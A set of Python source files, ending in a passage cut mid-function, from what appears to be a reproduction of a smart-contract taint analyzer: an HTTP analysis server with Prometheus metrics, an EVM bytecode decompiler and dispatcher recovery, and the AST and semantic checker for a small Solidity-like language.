            "mode": self.pool.stats.mode,
            "open_requests": self.backend.open_requests,
            "uptime_seconds": round(
                time.monotonic() - self._started_at, 3
            ),
        }
        self._count("health", 200)
        await self._respond(
            writer, 200, (json.dumps(payload) + "\n").encode("utf-8")
        )

    async def _handle_metrics(self, writer: asyncio.StreamWriter) -> None:
        self._count("metrics", 200)
        await self._respond(
            writer,
            200,
            self.render_metrics().encode("utf-8"),
            content_type="text/plain; version=0.0.4; charset=utf-8",
        )

    async def _handle_analyze(
        self, writer: asyncio.StreamWriter, body: bytes
    ) -> None:
        try:
            request = decode_request(parse_body(body), self.options.defaults)
            if request.bundle is not None:
                await self._handle_bundle(writer, request)
                return
            runtime = request.runtime()
            config = request.config()
        except (BadRequest, ValueError) as error:
            # ValueError covers UnknownEngineError / UnknownKindError /
            # missing-input — all client mistakes.
            self._count("analyze", 400)
            await self._respond(writer, 400, error_body(str(error)))
            return
        from repro.core.orchestrator import journal_key
        from repro.core.pipeline import analysis_fingerprint

        identity = journal_key(runtime, analysis_fingerprint(config))
        try:
            future = self.backend.submit(runtime, config, identity)
        except QueueFull as error:
            self._count("analyze", 429)
            await self._respond(writer, 429, error_body(str(error)))
            return
        row = await asyncio.wrap_future(future)
        entry = row[0]
        if entry.error_kind in HARNESS_FAULT_KINDS:
            self._count("analyze", 500)
            await self._respond(writer, 500, error_body(entry.error))
            return
        self._count("analyze", 200)
        await self._respond(
            writer,
            200,
            report_text(entry, request.name, len(runtime)).encode("utf-8"),
        )

    async def _handle_bundle(self, writer: asyncio.StreamWriter, request) -> None:
        """Cross-contract ``/analyze`` requests carrying a ``bundle``.

        Bundles bypass the per-contract worker pool (their merged fixpoint
        is not a poolable single-bytecode task) and run on the default
        executor; the response is the :class:`BundleReport` JSON — for a
        single-contract bundle, byte-identical to the plain request shape.
        """
        from repro import api
        from repro.core.report import BundleReport

        try:
            request.config()  # validate engine/kinds before spending work
            if request.bytecode is not None or request.source is not None:
                raise ValueError(
                    "request takes a bundle or bytecode/source, not both"
                )
        except ValueError as error:
            self._count("analyze", 400)
            await self._respond(writer, 400, error_body(str(error)))
            return
        loop = asyncio.get_running_loop()
        try:
            result = await loop.run_in_executor(
                None, lambda: api.analyze_bundle(request)
            )
        except ValueError as error:
            self._count("analyze", 400)
            await self._respond(writer, 400, error_body(str(error)))
            return
        self._count("analyze", 200)
        await self._respond(
            writer,
            200,
            (BundleReport.from_result(result).to_json() + "\n").encode("utf-8"),
        )

    async def _handle_batch(
        self, writer: asyncio.StreamWriter, body: bytes
    ) -> None:
        try:
            requests = batch_requests(parse_body(body), self.options.defaults)
        except BadRequest as error:
            self._count("batch", 400)
            await self._respond(writer, 400, error_body(str(error)))
            return
        # Stream NDJSON in completion order: headers first (no
        # Content-Length — the connection close delimits the body), then
        # one line per contract the moment its row resolves.
        self._count("batch", 200)
        writer.write(
            b"HTTP/1.1 200 OK\r\n"
            b"Content-Type: application/x-ndjson\r\n"
            b"Connection: close\r\n"
            b"\r\n"
        )
        await writer.drain()

        async def _resolve(index: int, request: AnalyzeRequest) -> Dict:
            try:
                runtime = request.runtime()
                config = request.config()
            except ValueError as error:
                return {"index": index, "error": str(error), "status": 400}
            from repro.core.orchestrator import journal_key
            from repro.core.pipeline import analysis_fingerprint

            identity = journal_key(runtime, analysis_fingerprint(config))
            try:
                future = self.backend.submit(runtime, config, identity)
            except QueueFull as error:
                return {"index": index, "error": str(error), "status": 429}
            row = await asyncio.wrap_future(future)
            entry = row[0]
            if entry.error_kind in HARNESS_FAULT_KINDS:
                return {"index": index, "error": entry.error, "status": 500}
            report = ContractReport.from_entry(
                entry, name=request.name, bytecode_size=len(runtime)
            )
            return {"index": index, "report": dataclasses.asdict(report)}

        tasks = [
            asyncio.ensure_future(_resolve(index, request))
            for index, request in enumerate(requests)
        ]
        try:
            for completed in asyncio.as_completed(tasks):
                line = await completed
                writer.write(
                    (json.dumps(line, separators=(",", ":")) + "\n").encode(
                        "utf-8"
                    )
                )
                await writer.drain()
        finally:
            for task in tasks:
                task.cancel()

    # -- metrics

    def render_metrics(self) -> str:
        """The /metrics payload: serving funnel + orchestrator counters."""
        pool_stats = self.pool.stats
        backend_stats = self.backend.stats
        requests = Metric(
            "repro_serve_requests_total",
            "HTTP requests handled, by endpoint and status code.",
            "counter",
        )
        for (endpoint, status), count in sorted(self._request_counts.items()):
            requests.add(count, endpoint=endpoint, status=str(status))
        metrics = [
            requests,
            Metric(
                "repro_serve_queue_depth",
                "Admitted analysis requests not yet resolved.",
                "gauge",
            ).add(self.backend.open_requests),
            Metric(
                "repro_serve_inflight_identities",
                "Distinct request identities currently being analyzed.",
                "gauge",
            ).add(self.backend.inflight_identities),
            Metric(
                "repro_serve_coalesced_requests_total",
                "Requests that joined an in-flight duplicate's analysis.",
                "counter",
            ).add(backend_stats.coalesced),
            Metric(
                "repro_serve_report_cache_hits_total",
                "Requests resolved from the in-memory completed-row cache.",
                "counter",
            ).add(backend_stats.report_cache_hits),
            Metric(
                "repro_serve_result_cache_hits_total",
                "Requests resolved from the cross-run disk result cache.",
                "counter",
            ).add(backend_stats.result_cache_hits),
            Metric(
                "repro_serve_queue_rejections_total",
                "Requests rejected by admission control (HTTP 429).",
                "counter",
            ).add(backend_stats.rejections),
            Metric(
                "repro_serve_uptime_seconds",
                "Seconds since the daemon started.",
                "gauge",
            ).add(round(time.monotonic() - self._started_at, 3)),
            Metric(
                "repro_orchestrator_workers",
                "Peak worker processes in the persistent pool.",
                "gauge",
            ).add(pool_stats.workers),
            Metric(
                "repro_orchestrator_dispatched_total",
                "Tasks dispatched to workers, retries included.",
                "counter",
            ).add(pool_stats.dispatched),
            Metric(
                "repro_orchestrator_completed_total",
                "Tasks that produced a result row.",
                "counter",
            ).add(pool_stats.completed),
            Metric(
                "repro_orchestrator_heartbeats_total",
                "Supervision heartbeats emitted.",
                "counter",
            ).add(pool_stats.heartbeats),
            Metric(
                "repro_orchestrator_retries_total",
                "Transient task failures retried with backoff.",
                "counter",
            ).add(pool_stats.retries),
            Metric(
                "repro_orchestrator_crashes_total",
                "Worker processes that died and were respawned.",
                "counter",
            ).add(pool_stats.crashes),
            Metric(
                "repro_orchestrator_watchdog_kills_total",
                "Hung workers SIGKILLed by the watchdog.",
                "counter",
            ).add(pool_stats.watchdog_kills),
            Metric(
                "repro_orchestrator_recycles_total",
                "Workers retired after recycle_after tasks.",
                "counter",
            ).add(pool_stats.recycles),
        ]
        return encode_metrics(metrics)


def serve_forever(options: Optional[ServeOptions] = None) -> None:
    """Blocking entry point: run the daemon until SIGTERM/SIGINT."""
    asyncio.run(_serve_main(options or ServeOptions()))


async def _serve_main(options: ServeOptions) -> None:
    server = AnalysisServer(options)
    await server.start()
    server.install_signal_handlers()
    host, port = server.address
    print(
        "repro serve listening on http://%s:%d "
        "(jobs=%d, max_queue=%d, dedup=%s)"
        % (host, port, options.jobs, options.max_queue, options.dedup),
        flush=True,
    )
    await server.run_until_shutdown()
