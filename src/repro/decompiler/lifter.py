"""Context-sensitive lifting of EVM bytecode to three-address code.

The algorithm (in the style of Gigahorse/Vandal):

1. Split bytecode into *static blocks* at ``JUMPDEST`` boundaries and after
   control-transfer instructions.
2. Abstractly interpret the operand stack.  An abstract value is a TAC
   variable that may carry a known constant.  Each static block is *cloned
   per context*, where a context is the tuple of constants visible on the
   entry stack — this distinguishes call sites that pushed different return
   addresses, so the ``PUSH ret; PUSH fn; JUMP ... JUMP`` internal-call
   convention resolves to precise return edges instead of a blown-up
   context-insensitive mush.
3. Each instance's symbolic execution emits TAC statements; values flowing
   along edges into non-constant entry positions become ``PHI`` statements.

Safety caps keep pathological inputs bounded: when a static block exceeds
``max_clones`` contexts, further edges collapse into a single all-unknown
instance; a global state cap aborts with :class:`LiftError`.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional, Sequence, Set, Tuple

from repro.evm.disassembler import Instruction, disassemble
from repro.evm.hashing import UINT_MAX
from repro.ir.tac import TACBlock, TACProgram, TACStatement

TERMINATORS = {"STOP", "RETURN", "REVERT", "INVALID", "SELFDESTRUCT"}

# Opcodes we constant-fold during lifting (helps resolve computed jumps in
# foreign bytecode; our own compiler pushes jump targets directly).
_FOLDABLE = {
    "ADD": lambda a, b: (a + b) & UINT_MAX,
    "SUB": lambda a, b: (a - b) & UINT_MAX,
    "MUL": lambda a, b: (a * b) & UINT_MAX,
    "AND": lambda a, b: a & b,
    "OR": lambda a, b: a | b,
    "XOR": lambda a, b: a ^ b,
    "SHL": lambda a, b: (b << a) & UINT_MAX if a < 256 else 0,
    "SHR": lambda a, b: b >> a if a < 256 else 0,
    "EQ": lambda a, b: 1 if a == b else 0,
}


class LiftError(Exception):
    """Decompilation failed (cap exceeded or irrecoverably malformed code)."""


@dataclass
class _AbstractValue:
    """A stack slot: a TAC variable name plus an optional known constant."""

    var: str
    const: Optional[int] = None


@dataclass
class _StaticBlock:
    offset: int
    instructions: List[Instruction]
    fallthrough: Optional[int]  # next block offset if control falls through


@dataclass
class _Instance:
    """One context-clone of a static block."""

    ident: str
    offset: int
    entry_stack: List[_AbstractValue]
    # phi inputs per entry position (only for non-constant positions)
    phi_inputs: Dict[int, Set[str]] = field(default_factory=dict)
    statements: List[TACStatement] = field(default_factory=list)
    successors: List[str] = field(default_factory=list)
    taken_successor: Optional[str] = None
    fallthrough_successor: Optional[str] = None
    processed: bool = False


def _split_blocks(code: bytes) -> Dict[int, _StaticBlock]:
    instructions = disassemble(code)
    leaders: Set[int] = {0}
    for index, ins in enumerate(instructions):
        if ins.name == "JUMPDEST":
            leaders.add(ins.offset)
        if ins.opcode.alters_control_flow and index + 1 < len(instructions):
            leaders.add(instructions[index + 1].offset)

    blocks: Dict[int, _StaticBlock] = {}
    ordered = sorted(leaders)
    for position, start in enumerate(ordered):
        end = ordered[position + 1] if position + 1 < len(ordered) else None
        body = [
            ins
            for ins in instructions
            if ins.offset >= start and (end is None or ins.offset < end)
        ]
        if not body:
            continue
        last = body[-1]
        falls = not last.opcode.is_terminator
        blocks[start] = _StaticBlock(
            offset=start,
            instructions=body,
            fallthrough=end if (falls and end is not None) else None,
        )
    return blocks


class _Lifter:
    def __init__(
        self,
        code: bytes,
        max_stack: int = 128,
        max_clones: int = 64,
        max_states: int = 20_000,
        deadline=None,
    ):
        self.code = code
        self.static_blocks = _split_blocks(code)
        self.max_stack = max_stack
        self.max_clones = max_clones
        self.max_states = max_states
        # Duck-typed cooperative budget (``check()`` raises when spent) —
        # see repro.core.pipeline.Deadline.  Checked per worklist item so a
        # state-explosion-prone lift cannot blow through the budget.
        self.deadline = deadline
        self.instances: Dict[Tuple[int, Optional[Tuple[Optional[int], ...]]], _Instance] = {}
        self.clone_count: Dict[int, int] = {}
        self.worklist: List[_Instance] = []
        self.var_counter = 0
        self.const_value: Dict[str, int] = {}
        self.unresolved: List[str] = []

    # ------------------------------------------------------------- helpers

    def _fresh_var(self, hint: str = "v") -> str:
        self.var_counter += 1
        return "%s%d" % (hint, self.var_counter)

    def _context_key(
        self, offset: int, stack: Sequence[_AbstractValue]
    ) -> Tuple[int, Optional[Tuple[Optional[int], ...]]]:
        return offset, tuple(av.const for av in stack)

    def _get_instance(
        self, offset: int, incoming: List[_AbstractValue]
    ) -> Optional[_Instance]:
        """Find or create the instance of ``offset`` for the incoming stack."""
        if offset not in self.static_blocks:
            return None
        if len(incoming) > self.max_stack:
            incoming = incoming[-self.max_stack :]

        key = self._context_key(offset, incoming)
        collapsed = False
        if key not in self.instances and self.clone_count.get(offset, 0) >= self.max_clones:
            # Collapse: one all-unknown instance per (offset, depth).
            key = (offset, (None,) * len(incoming))
            collapsed = True

        instance = self.instances.get(key)
        if instance is None:
            if len(self.instances) >= self.max_states:
                raise LiftError(
                    "state explosion: more than %d block instances" % self.max_states
                )
            self.clone_count[offset] = self.clone_count.get(offset, 0) + 1
            ident = "B%x_%d" % (offset, self.clone_count[offset])
            entry_stack = []
            for position, av in enumerate(incoming):
                const = None if collapsed else av.const
                entry_stack.append(
                    _AbstractValue(var="%s_s%d" % (ident, position), const=const)
                )
            instance = _Instance(ident=ident, offset=offset, entry_stack=entry_stack)
            self.instances[key] = instance
            self.worklist.append(instance)
        return instance

    def _connect(
        self,
        source: _Instance,
        out_stack: List[_AbstractValue],
        target_offset: int,
        kind: str,
    ) -> None:
        """Add an edge from ``source`` to the instance for ``target_offset``."""
        target = self._get_instance(target_offset, out_stack)
        if target is None:
            return
        if target.ident not in source.successors:
            source.successors.append(target.ident)
        if kind == "taken":
            source.taken_successor = target.ident
        elif kind == "fallthrough":
            source.fallthrough_successor = target.ident
        # Register phi inputs for non-constant entry positions.
        for position, av in enumerate(out_stack[-len(target.entry_stack) :] if target.entry_stack else []):
            entry = target.entry_stack[position]
            if entry.const is None:
                target.phi_inputs.setdefault(position, set()).add(av.var)

    # ------------------------------------------------------------- driving

    def run(self) -> TACProgram:
        entry = self._get_instance(0, [])
        if entry is None:
            return TACProgram()
        while self.worklist:
            if self.deadline is not None:
                self.deadline.check()
            instance = self.worklist.pop()
            if instance.processed:
                continue
            instance.processed = True
            self._execute(instance)
        return self._finalize(entry)

    def _execute(self, instance: _Instance) -> None:
        block = self.static_blocks[instance.offset]
        stack: List[_AbstractValue] = list(instance.entry_stack)
        emit = instance.statements.append
        seq = 0

        # Materialize constants for constant entry positions.
        for av in instance.entry_stack:
            if av.const is not None:
                self.const_value[av.var] = av.const
                emit(
                    TACStatement(
                        ident="%s_entry%d" % (instance.ident, seq),
                        opcode="CONST",
                        defs=[av.var],
                        uses=[],
                        pc=instance.offset,
                        block=instance.ident,
                    )
                )
                seq += 1

        def pop() -> _AbstractValue:
            if stack:
                return stack.pop()
            # Stack underflow relative to the entry: synthesize an unknown
            # (happens only for malformed code or collapsed contexts).
            return _AbstractValue(var=self._fresh_var("u"))

        def stmt_id() -> str:
            nonlocal seq
            seq += 1
            return "%s_%d" % (instance.ident, seq)

        for ins in block.instructions:
            name = ins.name
            if ins.opcode.is_push:
                var = self._fresh_var()
                value = ins.operand or 0
                self.const_value[var] = value
                emit(
                    TACStatement(
                        ident=stmt_id(),
                        opcode="CONST",
                        defs=[var],
                        pc=ins.offset,
                        block=instance.ident,
                    )
                )
                stack.append(_AbstractValue(var=var, const=value))
                continue
            if ins.opcode.is_dup:
                n = ins.opcode.value - 0x80 + 1
                while len(stack) < n:
                    stack.insert(0, _AbstractValue(var=self._fresh_var("u")))
                stack.append(stack[-n])
                continue
            if ins.opcode.is_swap:
                n = ins.opcode.value - 0x90 + 1
                while len(stack) < n + 1:
                    stack.insert(0, _AbstractValue(var=self._fresh_var("u")))
                stack[-1], stack[-n - 1] = stack[-n - 1], stack[-1]
                continue
            if name == "POP":
                pop()
                continue
            if name == "JUMPDEST":
                continue
            if name == "JUMP":
                target = pop()
                statement = TACStatement(
                    ident=stmt_id(),
                    opcode="JUMP",
                    uses=[target.var],
                    pc=ins.offset,
                    block=instance.ident,
                )
                emit(statement)
                if target.const is not None:
                    self._connect(instance, list(stack), target.const, "taken")
                else:
                    self.unresolved.append(statement.ident)
                return
            if name == "JUMPI":
                target = pop()
                condition = pop()
                statement = TACStatement(
                    ident=stmt_id(),
                    opcode="JUMPI",
                    uses=[target.var, condition.var],
                    pc=ins.offset,
                    block=instance.ident,
                )
                emit(statement)
                out = list(stack)
                if target.const is not None:
                    self._connect(instance, out, target.const, "taken")
                else:
                    self.unresolved.append(statement.ident)
                if block.fallthrough is not None:
                    self._connect(instance, out, block.fallthrough, "fallthrough")
                return
            if name in TERMINATORS:
                uses = [pop().var for _ in range(ins.opcode.pops)]
                emit(
                    TACStatement(
                        ident=stmt_id(),
                        opcode=name,
                        uses=uses,
                        pc=ins.offset,
                        block=instance.ident,
                    )
                )
                return

            # Generic operation.
            operands = [pop() for _ in range(ins.opcode.pops)]
            defs: List[str] = []
            result: Optional[_AbstractValue] = None
            if ins.opcode.pushes:
                const = None
                fold = _FOLDABLE.get(name)
                if fold is not None and all(op.const is not None for op in operands[:2]) and len(operands) == 2:
                    const = fold(operands[0].const, operands[1].const)
                var = self._fresh_var()
                if const is not None:
                    self.const_value[var] = const
                result = _AbstractValue(var=var, const=const)
                defs = [var]
            emit(
                TACStatement(
                    ident=stmt_id(),
                    opcode=name,
                    defs=defs,
                    uses=[op.var for op in operands],
                    pc=ins.offset,
                    block=instance.ident,
                )
            )
            if result is not None:
                stack.append(result)

        # Fell off the end of the block.
        if block.fallthrough is not None:
            self._connect(instance, list(stack), block.fallthrough, "fallthrough")

    # ----------------------------------------------------------- finishing

    def _finalize(self, entry: _Instance) -> TACProgram:
        program = TACProgram(entry=entry.ident, const_value=dict(self.const_value))
        program.unresolved_jumps = list(self.unresolved)
        for instance in self.instances.values():
            block = TACBlock(
                ident=instance.ident,
                offset=instance.offset,
                successors=list(instance.successors),
                taken_successor=instance.taken_successor,
                fallthrough_successor=instance.fallthrough_successor,
            )
            # PHI statements for joined entry positions.
            phi_statements: List[TACStatement] = []
            for position, av in enumerate(instance.entry_stack):
                if av.const is not None:
                    continue
                inputs = instance.phi_inputs.get(position)
                if not inputs:
                    continue
                phi_statements.append(
                    TACStatement(
                        ident="%s_phi%d" % (instance.ident, position),
                        opcode="PHI",
                        defs=[av.var],
                        uses=sorted(inputs),
                        pc=instance.offset,
                        block=instance.ident,
                    )
                )
            block.statements = phi_statements + instance.statements
            program.blocks[block.ident] = block
        # Fill predecessor lists.
        for block in program.blocks.values():
            for successor in block.successors:
                if successor in program.blocks:
                    program.blocks[successor].predecessors.append(block.ident)
        return program


def lift(code: bytes, **caps) -> TACProgram:
    """Decompile ``code`` into a :class:`TACProgram`.

    Keyword caps: ``max_stack``, ``max_clones``, ``max_states``, plus an
    optional cooperative ``deadline`` — see :class:`_Lifter`.  Raises
    :class:`LiftError` on state explosion; a spent deadline raises the
    deadline's own exception mid-lift.
    """
    return _Lifter(code, **caps).run()
