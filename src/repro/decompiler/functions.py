"""Public-function discovery from decompiled bytecode.

Recovers the ABI dispatcher structure: blocks comparing the 4-byte calldata
selector against constants and conditionally jumping to per-function entry
blocks.  Ethainter-Kill uses this to find public entry points that reach a
flagged statement, and the analysis uses it to attribute sinks to externally
callable functions.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Dict, List, Optional, Set

from repro.ir.tac import TACProgram

SELECTOR_MAX = (1 << 32) - 1


@dataclass
class PublicFunction:
    """One dispatcher target: a selector and its entry block."""

    selector: int
    entry_block: str

    def __str__(self) -> str:
        return "0x%08x -> %s" % (self.selector, self.entry_block)


def find_public_functions(program: TACProgram) -> List[PublicFunction]:
    """Extract ``selector -> entry block`` pairs from the dispatcher.

    Pattern matched: ``c = EQ(x, <const<=0xffffffff>)`` (either operand
    order) used as the condition of a ``JUMPI`` whose target is constant.
    """
    defining = program.defining_statement()
    found: List[PublicFunction] = []
    seen: Set[int] = set()
    for block in program.blocks.values():
        for stmt in block.statements:
            if stmt.opcode != "JUMPI" or len(stmt.uses) != 2:
                continue
            target_var, condition_var = stmt.uses
            condition = defining.get(condition_var)
            if condition is None or condition.opcode != "EQ":
                continue
            selector: Optional[int] = None
            for operand in condition.uses:
                value = program.const_value.get(operand)
                if value is not None and value <= SELECTOR_MAX:
                    selector = value
            if selector is None or selector in seen:
                continue
            taken = block.taken_successor
            if taken is None:
                continue
            seen.add(selector)
            found.append(PublicFunction(selector=selector, entry_block=taken))
    return found


def blocks_reachable_from(program: TACProgram, start: str) -> Set[str]:
    """All blocks reachable from ``start`` (inclusive)."""
    seen: Set[str] = set()
    stack = [start]
    while stack:
        block_id = stack.pop()
        if block_id in seen or block_id not in program.blocks:
            continue
        seen.add(block_id)
        stack.extend(program.blocks[block_id].successors)
    return seen


def function_of_block(program: TACProgram) -> Dict[str, Set[int]]:
    """Map each block to the set of selectors whose entry reaches it."""
    ownership: Dict[str, Set[int]] = {}
    for public in find_public_functions(program):
        for block_id in blocks_reachable_from(program, public.entry_block):
            ownership.setdefault(block_id, set()).add(public.selector)
    return ownership
