"""Bytecode decompiler: EVM bytecode -> functional three-address code.

Stands in for the Gigahorse toolchain the paper builds on.  The lifter
(:mod:`repro.decompiler.lifter`) recovers the control-flow graph by
context-sensitive abstract interpretation of the operand stack — block
instances are cloned per constant-stack context, which resolves the
push-return-address/jump calling convention precisely, the key difficulty of
EVM decompilation the paper highlights (§1, §5).
"""

from repro.decompiler.lifter import LiftError, lift
from repro.decompiler.functions import find_public_functions, PublicFunction

__all__ = ["lift", "LiftError", "find_public_functions", "PublicFunction"]
