"""Abstract syntax tree for MiniSol.

Every node carries the source line it came from for error reporting.  Types
are represented by :class:`Type` (elementary) and :class:`MappingType`
(possibly nested mappings, as in ``mapping(address => mapping(address =>
uint256))``).
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import List, Optional, Union


# --------------------------------------------------------------------- types


@dataclass(frozen=True)
class Type:
    """An elementary type: ``uint256``, ``address``, or ``bool``."""

    name: str  # "uint256" | "address" | "bool"

    def __str__(self) -> str:
        return self.name


@dataclass(frozen=True)
class MappingType:
    """A ``mapping(key => value)`` type; values may themselves be mappings."""

    key: Type
    value: "TypeLike"

    def __str__(self) -> str:
        return "mapping(%s => %s)" % (self.key, self.value)


@dataclass(frozen=True)
class ArrayType:
    """A fixed-size array ``elem[N]``: N consecutive storage slots.

    Element addresses are plain slot arithmetic (``base + index``), the
    pattern rule StorageWrite-2 exists for: an unchecked tainted index
    reaches *any* slot."""

    element: Type
    size: int

    def __str__(self) -> str:
        return "%s[%d]" % (self.element, self.size)


TypeLike = Union[Type, MappingType, ArrayType]

UINT = Type("uint256")
ADDRESS = Type("address")
BOOL = Type("bool")


# --------------------------------------------------------------- expressions


@dataclass
class Expr:
    line: int = 0


@dataclass
class NumberLiteral(Expr):
    value: int = 0


@dataclass
class BoolLiteral(Expr):
    value: bool = False


@dataclass
class Identifier(Expr):
    name: str = ""


@dataclass
class MsgSender(Expr):
    pass


@dataclass
class MsgValue(Expr):
    pass


@dataclass
class ThisExpr(Expr):
    """``this`` — the executing contract's own address."""


@dataclass
class IndexAccess(Expr):
    base: Expr = None  # type: ignore[assignment]
    index: Expr = None  # type: ignore[assignment]


@dataclass
class BinaryOp(Expr):
    op: str = ""
    left: Expr = None  # type: ignore[assignment]
    right: Expr = None  # type: ignore[assignment]


@dataclass
class UnaryOp(Expr):
    op: str = ""
    operand: Expr = None  # type: ignore[assignment]


@dataclass
class CallExpr(Expr):
    """A call of an internal function or of a builtin (see codegen.BUILTINS)."""

    name: str = ""
    args: List[Expr] = field(default_factory=list)


@dataclass
class ExternalCall(Expr):
    """ABI-encoded external call: ``call(target, "sig(types)", args...)``.

    ``kind`` selects the EVM call instruction: ``"call"`` (default) or
    ``"delegatecall"`` — the latter written
    ``delegatecall(target, "sig(types)", args...)`` and used by
    proxy/library patterns (the Parity wallet shape).
    """

    target: Expr = None  # type: ignore[assignment]
    signature: str = ""
    args: List[Expr] = field(default_factory=list)
    value: Optional[Expr] = None
    kind: str = "call"


# ---------------------------------------------------------------- statements


@dataclass
class Stmt:
    line: int = 0


@dataclass
class Block(Stmt):
    statements: List[Stmt] = field(default_factory=list)


@dataclass
class VarDecl(Stmt):
    var_type: Type = None  # type: ignore[assignment]
    name: str = ""
    initializer: Optional[Expr] = None


@dataclass
class Assign(Stmt):
    """``lvalue op value`` where op is ``=``, ``+=``, or ``-=``."""

    target: Expr = None  # type: ignore[assignment]  # Identifier or IndexAccess
    value: Expr = None  # type: ignore[assignment]
    op: str = "="


@dataclass
class If(Stmt):
    condition: Expr = None  # type: ignore[assignment]
    then_branch: Stmt = None  # type: ignore[assignment]
    else_branch: Optional[Stmt] = None


@dataclass
class While(Stmt):
    condition: Expr = None  # type: ignore[assignment]
    body: Stmt = None  # type: ignore[assignment]


@dataclass
class Require(Stmt):
    condition: Expr = None  # type: ignore[assignment]


@dataclass
class Return(Stmt):
    value: Optional[Expr] = None


@dataclass
class Placeholder(Stmt):
    """The ``_;`` statement inside a modifier body."""


@dataclass
class ExprStmt(Stmt):
    expr: Expr = None  # type: ignore[assignment]


# --------------------------------------------------------------- definitions


@dataclass
class Param:
    param_type: Type
    name: str


@dataclass
class EventDef:
    """``event Name(type name, ...);`` — compiled to a LOG1 topic."""

    name: str
    params: List["Param"]
    line: int = 0

    @property
    def signature(self) -> str:
        return "%s(%s)" % (self.name, ",".join(p.param_type.name for p in self.params))


@dataclass
class Emit(Stmt):
    """``emit Name(args);`` — logs the event's topic plus ABI-encoded args."""

    name: str = ""
    args: List[Expr] = field(default_factory=list)


@dataclass
class StateVarDef:
    var_type: TypeLike
    name: str
    line: int = 0
    initializer: Optional[Expr] = None
    slot: int = -1  # assigned by the checker


@dataclass
class ModifierDef:
    name: str
    params: List[Param]
    body: Block
    line: int = 0


@dataclass
class ModifierInvocation:
    name: str
    args: List[Expr] = field(default_factory=list)
    line: int = 0


@dataclass
class FunctionDef:
    name: str
    params: List[Param]
    body: Block
    visibility: str = "public"  # public | private | internal | external
    modifiers: List[ModifierInvocation] = field(default_factory=list)
    return_type: Optional[Type] = None
    is_constructor: bool = False
    line: int = 0

    @property
    def is_public(self) -> bool:
        return self.visibility in ("public", "external")

    @property
    def signature(self) -> str:
        """ABI signature, e.g. ``transfer(address,uint256)``."""
        return "%s(%s)" % (self.name, ",".join(p.param_type.name for p in self.params))


@dataclass
class Contract:
    name: str
    state_vars: List[StateVarDef] = field(default_factory=list)
    events: List[EventDef] = field(default_factory=list)
    modifiers: List[ModifierDef] = field(default_factory=list)
    functions: List[FunctionDef] = field(default_factory=list)
    constructor: Optional[FunctionDef] = None
    line: int = 0

    def function(self, name: str) -> FunctionDef:
        for fn in self.functions:
            if fn.name == name:
                return fn
        raise KeyError(name)

    def state_var(self, name: str) -> StateVarDef:
        for var in self.state_vars:
            if var.name == name:
                return var
        raise KeyError(name)


@dataclass
class Program:
    contracts: List[Contract] = field(default_factory=list)

    def contract(self, name: str) -> Contract:
        for contract in self.contracts:
            if contract.name == name:
                return contract
        raise KeyError(name)
