"""Semantic checker for MiniSol.

Responsibilities:

* assign storage slots to state variables (sequential, Solidity-style),
* resolve identifiers (state vars, locals/params, functions, builtins),
* check modifier references and ``_;`` placement,
* light type checking — every MiniSol value is one 256-bit word, so the
  checker enforces structural rules (mapping index depth, call arity,
  assignability) rather than deep typing.

The checker mutates the AST in place (slot assignment) and returns the
program for chaining.
"""

from __future__ import annotations

from typing import Dict, List, Optional, Set

from repro.minisol import ast_nodes as ast

# Builtins and their argument counts (None = variadic, validated ad hoc).
BUILTINS: Dict[str, Optional[int]] = {
    "selfdestruct": 1,
    "delegatecall": 1,
    "staticcall_unchecked": 1,
    "staticcall_checked": 1,
    "transfer": 2,  # transfer(to, amount): plain value send
    "balance": 1,
    "sha3": 1,
    "gasleft": 0,
}


class CheckError(Exception):
    """A semantic error in MiniSol source."""

    def __init__(self, message: str, line: int = 0):
        super().__init__("line %d: %s" % (line, message) if line else message)
        self.line = line


class _Scope:
    """Lexical scope chain for locals and parameters."""

    def __init__(self, parent: Optional["_Scope"] = None):
        self.parent = parent
        self.names: Set[str] = set()

    def declare(self, name: str, line: int) -> None:
        if name in self.names:
            raise CheckError("redeclaration of %r" % name, line)
        self.names.add(name)

    def is_defined(self, name: str) -> bool:
        scope: Optional[_Scope] = self
        while scope is not None:
            if name in scope.names:
                return True
            scope = scope.parent
        return False


class _ContractChecker:
    def __init__(self, contract: ast.Contract):
        self.contract = contract
        self.state_vars = {var.name: var for var in contract.state_vars}
        self.functions = {fn.name: fn for fn in contract.functions}
        self.modifiers = {mod.name: mod for mod in contract.modifiers}
        self.events = {event.name: event for event in contract.events}
        self.in_modifier = False

    def run(self) -> None:
        self._assign_slots()
        seen: Set[str] = set()
        for fn in self.contract.functions:
            if fn.name in seen:
                raise CheckError("duplicate function %r" % fn.name, fn.line)
            seen.add(fn.name)
        for fn in self.contract.functions:
            self._check_function(fn)
        if self.contract.constructor is not None:
            self._check_function(self.contract.constructor)
        for mod in self.contract.modifiers:
            self._check_modifier(mod)

    def _assign_slots(self) -> None:
        seen: Set[str] = set()
        next_slot = 0
        for var in self.contract.state_vars:
            if var.name in seen:
                raise CheckError("duplicate state variable %r" % var.name, var.line)
            seen.add(var.name)
            var.slot = next_slot
            # Fixed-size arrays occupy `size` consecutive slots (Solidity
            # layout); everything else occupies one.
            if isinstance(var.var_type, ast.ArrayType):
                if var.var_type.size <= 0:
                    raise CheckError("array size must be positive", var.line)
                next_slot += var.var_type.size
            else:
                next_slot += 1
            if var.initializer is not None and isinstance(
                var.var_type, (ast.MappingType, ast.ArrayType)
            ):
                raise CheckError(
                    "mappings/arrays cannot have initializers", var.line
                )

    # ----------------------------------------------------------- functions

    def _check_function(self, fn: ast.FunctionDef) -> None:
        for invocation in fn.modifiers:
            modifier = self.modifiers.get(invocation.name)
            if modifier is None:
                raise CheckError("unknown modifier %r" % invocation.name, invocation.line)
            if len(invocation.args) != len(modifier.params):
                raise CheckError(
                    "modifier %r expects %d argument(s), got %d"
                    % (invocation.name, len(modifier.params), len(invocation.args)),
                    invocation.line,
                )
        scope = _Scope()
        for param in fn.params:
            scope.declare(param.name, fn.line)
        self._check_block(fn.body, scope, fn)

    def _check_modifier(self, mod: ast.ModifierDef) -> None:
        self.in_modifier = True
        try:
            scope = _Scope()
            for param in mod.params:
                scope.declare(param.name, mod.line)
            placeholders = self._count_placeholders(mod.body)
            if placeholders != 1:
                raise CheckError(
                    "modifier %r must contain exactly one '_;' (found %d)"
                    % (mod.name, placeholders),
                    mod.line,
                )
            self._check_block(mod.body, scope, None)
        finally:
            self.in_modifier = False

    def _count_placeholders(self, stmt: ast.Stmt) -> int:
